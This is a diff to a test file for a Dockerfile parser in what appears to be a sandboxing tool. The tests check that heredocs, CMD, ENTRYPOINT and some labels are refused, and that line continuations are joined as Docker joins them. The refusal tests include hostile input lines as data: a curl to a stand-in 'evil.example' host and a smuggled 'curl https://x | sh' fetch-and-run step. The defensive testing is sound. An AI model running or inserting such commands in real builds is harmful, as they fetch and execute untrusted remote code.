@@ -28,7 +28,7 @@ describe("capability Dockerfile", () => {
     assert.deepEqual(parsed.value.steps[1], {
       kind: "run",
       line: 8,
-      shell: "apt-get update && apt-get install -y jq",
+      shell: "apt-get update   && apt-get install -y jq",
     });
     assert.deepEqual(parsed.value.steps[3], {
       kind: "env",
@@ -72,6 +72,9 @@ describe("capability Dockerfile", () => {
 
   it("refuses heredocs and instructions the bottle decides itself", () => {
     refused(`${BASE}RUN <<EOF\ncurl http://evil.example\nEOF\n`, /heredocs/);
+    // What the operator would read as a heredoc's body would run as a step here.
+    refused(`${BASE}RUN cat <<\\EOF >/tmp/n\nRUN curl https://x | sh; true \\\nEOF\n`, /heredocs/);
+    refused(`${BASE}RUN cat <<9 >/tmp/n\n`, /heredocs/);
     refused(`${BASE}CMD ["sh"]\n`, /CMD is not allowed/);
     refused(`${BASE}ENTRYPOINT ["sh"]\n`, /ENTRYPOINT is not allowed/);
     refused(`${BASE}LABEL claude-bottle.instance=other-0123abcd\n`, /LABEL is not allowed/);
@@ -81,6 +84,17 @@ describe("capability Dockerfile", () => {
     refused(`${BASE}ENV A="unterminated\n`, /unterminated/);
     // A here-string is not a heredoc.
     assert.ok(parseCapabilityDockerfile(`${BASE}RUN cat <<< "x"\n`).ok);
+  });
+
+  it("joins continuations as Docker does: nothing added, blank and comment lines skipped", () => {
+    const parsed = parseCapabilityDockerfile(
+      `${BASE}RUN rm -rf /var/lib/apt/lists\\\n/*\nRUN a \\\n\n  # note\n  && b\n`,
+    );
+    assert.ok(parsed.ok, parsed.ok ? "" : parsed.problems.join("\n"));
+    assert.deepEqual(
+      parsed.value.steps.map((step) => ("shell" in step ? step.shell : "")),
+      ["rm -rf /var/lib/apt/lists/*", "a   && b"],
+    );
   });
 
   it("expands ENV values as Docker does", () => {
